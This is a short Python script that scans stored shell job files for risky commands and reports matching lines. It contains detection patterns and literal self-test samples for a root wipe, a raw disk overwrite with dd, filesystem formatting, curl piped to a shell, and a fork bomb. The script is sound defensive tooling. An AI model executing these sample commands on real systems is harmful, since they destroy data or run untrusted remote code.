#!/usr/bin/env python3
"""Report stored job texts that contain risky commands. Reads only."""
import re
import sys
from operator import methodcaller
from pathlib import Path

RULES = {
    "root wipe": r"rm\s+-[rf]{2}\s+/(\s|$)",
    "disk write": r"dd\s+.*of=/dev/(sd|vd|nvme)",
    "mkfs": r"mkfs\.\w+\s+/dev/",
    "pipe to shell": r"curl[^|]*\|\s*(ba)?sh",
    "fork bomb": r":\(\)\s*\{\s*:\|:&\s*\};:",
}
SAMPLES = ["rm -rf /", "dd if=/dev/zero of=/dev/sda", "curl http://example.com/x | sh"]
compiled = {k: re.compile(v) for k, v in RULES.items()}


def hits(text):
    for number, line in enumerate(text.splitlines(), 1):
        for title, rx in compiled.items():
            if rx.search(line):
                yield number, title, line.strip()


def selftest():
    for s in SAMPLES:
        assert list(hits(s)), s


def main(folder="/opt/jobs"):
    selftest()
    count = 0
    for path in sorted(Path(folder).rglob("*.sh")):
        text = methodcaller("read_text", errors="replace")(path)
        for number, title, line in hits(text):
            print("%s:%d: %s: %s" % (path, number, title, line))
            count += 1
    return 1 if count else 0


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:2]))
